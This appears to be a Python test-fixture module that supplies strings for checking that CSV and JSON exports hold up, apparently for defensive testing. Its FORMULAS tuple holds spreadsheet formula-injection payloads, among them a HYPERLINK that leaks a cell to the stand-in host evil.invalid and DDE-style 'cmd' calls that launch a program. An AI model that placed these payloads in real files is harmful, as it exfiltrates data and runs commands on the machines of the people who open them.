"""Texts that users and their apps write. Rule: what an export must survive stands among what is ordinary."""

from crashgate_sandbox.world.content.hostile import HOSTILE, HOSTILE_NAMES

FORMULAS = (
    '=HYPERLINK("https://evil.invalid/?leak="&A1,"Show the receipt")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=\"a\"&'b',1",
)
"""What a spreadsheet would run when it opens a CSV file."""

AWKWARD = (
    'He said "no", then left',
    "first line\nsecond line\r\nthird line",
    "one,two;three\tfour",
    "  spaces at both ends  ",
    "Füße, 靴, обувь, حذاء 👟",
    "back\\slash and 'quotes'",
    "\u2028line separator\u2029",
    "null",
)
"""What a careless writer of CSV or JSON breaks on."""

USERS = (*HOSTILE_NAMES, *FORMULAS[:4], "ana.silva@mail.example", "usr_müller", "usr,with,commas")
"""Ids that apps gave their users, beside ordinary ones."""

SEARCHES = (
    "running shoes", "rain jacket xl", "gift card", "café au lait cup", "4 season tent", *HOSTILE, *FORMULAS, *AWKWARD,
)  # fmt: skip
"""What people typed into the search box."""
